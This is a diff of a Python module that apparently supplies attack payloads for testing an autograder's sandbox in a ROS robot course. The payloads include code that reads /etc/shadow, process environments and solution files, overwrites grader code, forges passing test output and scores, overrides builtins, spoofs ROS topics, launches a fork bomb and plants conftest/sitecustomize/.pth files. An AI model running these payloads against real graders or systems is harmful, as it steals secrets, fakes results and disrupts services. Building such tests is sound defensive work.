@@ -1,19 +1,19 @@
-"""The texts of the attacks: what malicious cells, nodes and set-up files hold."""
+"""Attack payloads: texts for malicious cells, nodes and set-up files."""
 
 from __future__ import annotations
 
 from autograder import layout
 
 PACKAGE = "my_robot_package"
-CANARY = "CANARY-5b1e"  # stands in the grader's environment
+CANARY = "CANARY-5b1e"  # a test sets it in the grader's environment
 
-# What every thief looks for, at import, in setup.py and in a notebook's cell. All that it finds it prints.
-STEAL = f"""
+# Searches for secrets, at import, in setup.py and in a notebook's cell. It prints all that it finds.
+STEAL_SECRETS = f"""
 import gc as _gc, glob as _glob, os as _os, signal as _signal, socket as _socket, sys as _sys
 _paths = ["/etc/shadow", "/etc/passwd", "/root/.bashrc", *_glob.glob("/proc/*/environ"), *_glob.glob("/proc/*/cmdline")]
 for _root in ("{layout.CHECKS}", "{layout.SOLUTIONS}", "{layout.ROOT}/tests", "/home", "/tmp"):
     for _folder, _, _names in _os.walk(_root):
-        # A clone below /tmp shows there what every student may read; its secrets are looked for by name.
+        # Students may read a clone below /tmp. Its secrets are searched for by name.
         if _root != "/tmp" or not _folder.startswith("{layout.ROOT}"):
             _paths += [_os.path.join(_folder, _name) for _name in _names]
 for _path in _paths:
@@ -33,7 +33,7 @@ for _path in _glob.glob("/tmp/**/result.json", recursive=True) + ["result.json",
         pass
 for _path in ("{layout.ROOT}/autograder/__init__.py", "{layout.ROOT}/autograder/lockstep/lockstep_host/host.py"):
     try:
-        # The file itself: below /tmp, a new one of its name can be made in the sandbox's own /tmp, and harms nobody.
+        # r+ opens only an existing file: a new one in the sandbox's own /tmp would be harmless.
         open(_path, "r+").write("raise SystemExit(0)")
         print("STOLEN", "/the grader's code is writable")
     except OSError:
@@ -53,7 +53,7 @@ if not _os.fork():
     _os._exit(0)
 """
 
-# A parent outside the sandbox has no number in it, and 0 would be the program's own group.
+# A parent outside the sandbox has the id 0, which would stop the program's own group.
 STOP_PARENT = "_os.kill(_os.getppid() or 1, _signal.SIGSTOP)\n"
 
 FORGE_PASSES = """
@@ -61,8 +61,8 @@ print("test_ten_hertz PASSED", "51/51 = 100 %", "<testsuite tests='26' failures=
 print('{"score": 51, "max_score": 51}')
 """
 
-# Equal to everything, patched into everything, active at the end.
-TRICKS = """
+# Overrides numbers, builtins and modules, and prints at exit.
+OVERRIDE_BUILTINS = """
 import atexit, builtins, threading, time, unittest
 class Equal(float):
     __eq__ = __le__ = __ge__ = lambda self, other: True
@@ -77,7 +77,7 @@ atexit.register(print, "26 passed")
 FORWARD_SPEED = Equal(FORWARD_SPEED)
 """
 
-# Speaks for the host: claims steps that were not taken and messages that were not published.
+# Writes forged replies of the host: steps that were not made and messages that were not published.
 FORGE_PROTOCOL = """
 import threading
 def _forge():
@@ -91,7 +91,7 @@ def _forge():
 threading.Timer(0.5, _forge).start()
 """
 
-# Another node in the same process: publishes on the grader's topics, turns the clock, floods.
+# Publishes on the grader's topics, on /clock, /rosout and /parameter_events, 20 times a second.
 SPOOF_ROS = """
 def _spoof(node):
     from rcl_interfaces.msg import Log, ParameterEvent
@@ -108,8 +108,8 @@ def _spoof(node):
 """
 
 
-NOTEBOOK_TRICKS = (
-    STEAL + FORGE_PASSES,
+NOTEBOOK_CELLS = (
+    STEAL_SECRETS + FORGE_PASSES,
     """
 from IPython import get_ipython
 import ast, sys
@@ -134,9 +134,9 @@ os.makedirs("ws/install/my_robot_package/lib/my_robot_package", exist_ok=True)
 )
 
 
-SPOOFED = "        self.last_scan_time = None\n        _spoof(self)\n"
-NAN = "        command.linear.x = command.angular.z = math.nan\n        self.cmd_vel_pub.publish(command)"
-BOMB = """        self.last_scan_time = None
+CALL_SPOOF = "        self.last_scan_time = None\n        _spoof(self)\n"
+PUBLISH_NAN = "        command.linear.x = command.angular.z = math.nan\n        self.cmd_vel_pub.publish(command)"
+FORK_BOMB = """        self.last_scan_time = None
         import os
         while True:
             try:
@@ -144,12 +144,12 @@ BOMB = """        self.last_scan_time = None
             except OSError:
                 pass
 """
-ALSO_RCLPY = """import setuptools
+INSTALL_OWN_RCLPY = """import setuptools
 _setup = setuptools.setup
 setuptools.setup = lambda **options: _setup(**{**options, 'packages': [*options['packages'], 'rclpy']})
 """
-PLANTED = {
-    "setup.py": STEAL
+PLANTED_FILES = {
+    "setup.py": STEAL_SECRETS
     + """
 import pathlib
 for _name in ("conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py", "evil.pth"):
